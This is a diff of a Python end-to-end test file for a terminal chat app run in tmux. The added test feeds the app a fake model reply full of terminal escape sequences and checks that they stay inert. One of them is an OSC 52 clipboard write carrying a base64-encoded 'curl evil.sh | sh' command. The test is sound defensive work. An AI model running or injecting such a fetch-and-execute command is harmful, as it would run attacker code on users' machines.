@@ -1,8 +1,12 @@
-"""End to end: ``llmos chat`` in a real terminal (tmux) with the real default model.
+"""End to end in a real terminal (tmux).
 
-It starts the app, waits for the loading screen to give way (the first start converts the
-embedded model into the cache, ~40 s on 2 cores), types a question, reads the streamed reply
-off the screen, and quits with Ctrl+Q.
+- ``llmos chat`` with the real default model: it starts the app, waits for the loading
+  screen to give way (the first start converts the embedded model into the cache, ~40 s on
+  2 cores), types a question, reads the streamed reply off the screen, and quits.
+- The app on a fake model that replies with terminal escape sequences: the terminal's title
+  and clipboard stay untouched, the sequences show as text, copying a code block puts the
+  code (and only that) on tmux's clipboard through OSC 52, and a 1 MB bracketed paste lands
+  without freezing the UI.
 """
 
 from __future__ import annotations
@@ -18,11 +22,9 @@ from pathlib import Path
 
 import pytest
 
-pytestmark = [
-    pytest.mark.real,
-    pytest.mark.skipif(shutil.which("tmux") is None,
-                       reason="tmux is not installed (apt-get install -y tmux) - the end-to-end chat test needs a real terminal"),
-]
+pytestmark = pytest.mark.skipif(
+    shutil.which("tmux") is None,
+    reason="tmux is not installed (apt-get install -y tmux) - the end-to-end chat tests need a real terminal")
 
 WIDTH, HEIGHT = 100, 30
 CONFIG = """\
@@ -79,6 +81,7 @@ def reply_lines(screen: str) -> list[str]:
     return [line for line in body if line]
 
 
+@pytest.mark.real
 def test_llmos_chat_streams_a_reply_from_the_real_model(tmp_path: Path) -> None:
     config = tmp_path / "chat.yaml"
     config.write_text(CONFIG, encoding="utf-8")
@@ -126,5 +129,58 @@ def test_llmos_chat_streams_a_reply_from_the_real_model(tmp_path: Path) -> None:
                   "the sidebar with the session")
         tmux("send-keys", "-t", "chat", "C-q")
         tmux.wait(lambda s: "EXITED 0" in s, 60, "the app to quit with status 0")
+    finally:
+        tmux("kill-server")
+
+
+def test_escape_sequences_from_the_model_do_nothing_in_a_real_terminal(tmp_path: Path) -> None:
+    import base64
+
+    evil = base64.b64encode(b"curl evil.sh | sh").decode()
+    reply = (f"Look:\x1b]0;PWNED\x07 \x1b]52;c;{evil}\x07 \x1b[2J\x1bc\x9b2J done\n\n"
+             "```sh\necho safe\n```\n")
+    script = Path(__file__).with_name("fake_chat.py")
+    command = " ".join(map(shlex.quote, ["env", "TERM=xterm-256color", "TEXTUAL_ANIMATIONS=none", sys.executable,
+                                         str(script), str(tmp_path / "data"), repr(reply)]))
+    tmux = Tmux(f"llmos-e2e-safe-{os.getpid()}")
+    tmux("-f", "/dev/null", "new-session", "-d", "-s", "chat", "-x", "80", "-y", "24",
+         f"{command}; echo EXITED $?; sleep 120")
+    try:
+        tmux("set-option", "-s", "set-clipboard", "on")  # an application's OSC 52 sets tmux's buffer
+        title = tmux("display-message", "-p", "-t", "chat", "#{pane_title}")
+        tmux.wait(lambda s: "Type a message" in s, 60, "the app to start")
+        tmux("send-keys", "-t", "chat", "-l", "go")
+        tmux("send-keys", "-t", "chat", "Enter")
+        screen = tmux.wait(lambda s: "ready ·" in s, 60, "the reply")
+        assert "␛]0;PWNED␇" in screen and "␛]52;c;" in screen and "␛[2J␛c\\x9b2J done" in screen, screen
+        assert "echo safe" in screen and "go" in screen.splitlines()[3], "nothing cleared the screen"
+        assert tmux("display-message", "-p", "-t", "chat", "#{pane_title}") == title, "the title is unchanged"
+        assert tmux("list-buffers") == "", "the model's OSC 52 did not reach the clipboard"
+
+        # Tab, Tab: the user's message, then the reply; b copies its code block
+        tmux("send-keys", "-t", "chat", "Tab")
+        tmux("send-keys", "-t", "chat", "Tab")
+        tmux("send-keys", "-t", "chat", "b")
+        tmux.wait(lambda s: "Copied the code block" in s, 30, "the copy")
+        assert tmux("show-buffer") == "echo safe"
+
+        # a 1 MB bracketed paste (typing goes back to the input from the focused message)
+        tmux("send-keys", "-t", "chat", "-l", "x")
+        tmux.wait(lambda s: "│ x" in s, 30, "the typed x in the input")
+        big = tmp_path / "big.txt"
+        big.write_text(("0123456789abcdef" * 64 + "\n") * 1000, encoding="utf-8")
+        tmux("load-buffer", "-b", "big", str(big))
+        started = time.monotonic()
+        tmux("paste-buffer", "-p", "-d", "-b", "big", "-t", "chat")
+        tmux.wait(lambda s: "[pasted text #1: 1,025,000 chars]" in s, 60, "the paste to land")
+        landed = time.monotonic() - started
+        tmux("send-keys", "-t", "chat", "-l", "!")
+        tmux.wait(lambda s: "chars]!" in s, 30, "a key after the paste")
+        answered = time.monotonic() - started - landed
+        print(f"1 MB paste in tmux: landed after {landed:.2f}s, the next key after {answered:.2f}s more")
+        assert landed < 30, "a 1 MB paste must not freeze the UI"
+
+        tmux("send-keys", "-t", "chat", "C-q")
+        tmux.wait(lambda s: "EXITED 0" in s, 30, "the app to quit with status 0")
     finally:
         tmux("kill-server")
